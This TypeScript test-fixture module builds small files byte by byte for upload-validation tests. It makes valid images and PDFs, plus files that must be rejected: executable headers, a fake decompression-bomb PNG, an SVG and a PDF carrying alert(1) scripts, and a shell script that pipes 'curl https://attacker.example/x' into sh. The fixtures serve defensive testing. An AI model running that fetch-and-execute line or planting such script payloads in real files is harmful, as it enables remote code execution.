/**
 * Small real files for the storage tests, built byte by byte: documents a browser can open, and
 * the things that must never pass for one.
 */
import { crc32, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typeAndData = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([length, typeAndData, checksum]);
}

/** A valid opaque red PNG, by default the size of a small scan (uploadLimits wants 32 px a side). */
export function pngFile(width = 64, height = 48): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.writeUInt8(8, 8); // bit depth
  header.writeUInt8(2, 9); // colour type: RGB
  const scanline = Buffer.concat([Buffer.from([0]), Buffer.alloc(width * 3, 0)]); // filter byte, then RGB
  for (let x = 0; x < width; x += 1) scanline[1 + x * 3] = 0xff;
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.concat(Array.from({ length: height }, () => scanline)))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/**
 * A JPEG/JFIF as a camera starts one (SOI, APP0), with the frame header (SOF0) that gives its size,
 * then the end marker.
 */
export function jpegFile(width = 64, height = 48): Buffer {
  const frame = Buffer.from([0xff, 0xc0, 0x00, 0x0b, 0x08, 0, 0, 0, 0, 0x01, 0x01, 0x11, 0x00]);
  frame.writeUInt16BE(height, 5);
  frame.writeUInt16BE(width, 7);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]),
    Buffer.from('JFIF\0', 'ascii'),
    Buffer.from([0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]),
    frame,
    Buffer.from([0xff, 0xd9]),
  ]);
}

/** A small PNG whose header claims another size, as a decompression bomb's does (its checksum left stale). */
export function pngClaimingSize(width: number, height: number): Buffer {
  const bytes = Buffer.from(pngFile());
  bytes.writeUInt32BE(width, 16);
  bytes.writeUInt32BE(height, 20);
  return bytes;
}

/** A JPEG that starts as a camera's does and has no frame: it says it is an image and opens as none. */
export function framelessJpegFile(): Buffer {
  return Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]),
    Buffer.from('JFIF\0', 'ascii'),
    Buffer.from([0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]),
    Buffer.from([0xff, 0xd9]),
  ]);
}

/** A minimal one-page PDF 1.4. */
export function pdfFile(): Buffer {
  return Buffer.from(
    [
      '%PDF-1.4',
      '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj',
      '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
      '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj',
      'trailer << /Root 1 0 R >>',
      '%%EOF',
      '',
    ].join('\n'),
    'latin1',
  );
}

/** The header of a 64-bit Linux executable (ELF), padded to a plausible size. */
export function elfExecutable(): Buffer {
  const file = Buffer.alloc(256);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]).copy(file, 0);
  file.writeUInt16LE(2, 16); // e_type: executable
  file.writeUInt16LE(0x3e, 18); // e_machine: x86-64
  return file;
}

/** The start of a Windows executable: the MZ header pointing at a PE header. */
export function windowsExecutable(): Buffer {
  const file = Buffer.alloc(256);
  file.write('MZ', 0, 'ascii');
  file.writeUInt32LE(0x80, 0x3c); // offset of the PE header
  file.write('PE\0\0', 0x80, 'latin1');
  return file;
}

export function shellScript(): Buffer {
  return Buffer.from('#!/bin/sh\ncurl https://attacker.example/x | sh\n', 'utf8');
}

export function htmlPage(): Buffer {
  return Buffer.from('<html><body><script>fetch("/api/v1/user/info")</script></body></html>\n', 'utf8');
}

export function svgImage(): Buffer {
  return Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><script>alert(1)</script></svg>\n',
    'utf8',
  );
}

/** A ZIP archive holding one stored (uncompressed) file, `a.txt` = "hi". */
export function zipArchive(): Buffer {
  const name = Buffer.from('a.txt', 'ascii');
  const content = Buffer.from('hi', 'ascii');
  const checksum = crc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(10, 4); // version needed
  local.writeUInt32LE(checksum, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(10, 6);
  central.writeUInt32LE(checksum, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(name.length, 28);
  const centralOffset = local.length + name.length + content.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(centralOffset, 16);
  return Buffer.concat([local, name, content, central, name, end]);
}

/** A one-page PDF whose script runs when it is opened, its objects compressed in object streams. */
export async function pdfWithOpeningScript(): Promise<Buffer> {
  const document = await PDFDocument.create({ updateMetadata: false });
  document.addPage([200, 200]);
  const action = document.context.register(document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }));
  document.catalog.set(PDFName.of('OpenAction'), action);
  return Buffer.from(await document.save({ useObjectStreams: true }));
}
